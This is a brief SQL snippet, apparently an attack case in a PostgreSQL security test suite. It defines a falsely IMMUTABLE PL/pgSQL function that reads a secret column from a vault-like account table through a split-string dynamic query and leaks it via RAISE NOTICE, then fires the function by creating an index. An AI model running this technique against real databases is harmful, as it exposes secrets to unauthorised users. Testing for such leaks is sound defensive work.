-- Makes an index in a block whose function runs a text that tells.
-- wants: read
-- attack:
CREATE FUNCTION tells(v text) RETURNS text IMMUTABLE LANGUAGE plpgsql AS $f$
DECLARE found text;
BEGIN
  EXECUTE 'SELECT secret FROM public.vlt_' || 'account LIMIT 1' INTO found;
  RAISE NOTICE '%', found;
  RETURN v;
END $f$;
DO $$ BEGIN CREATE INDEX ON mallory_own (tells(v)); END $$;
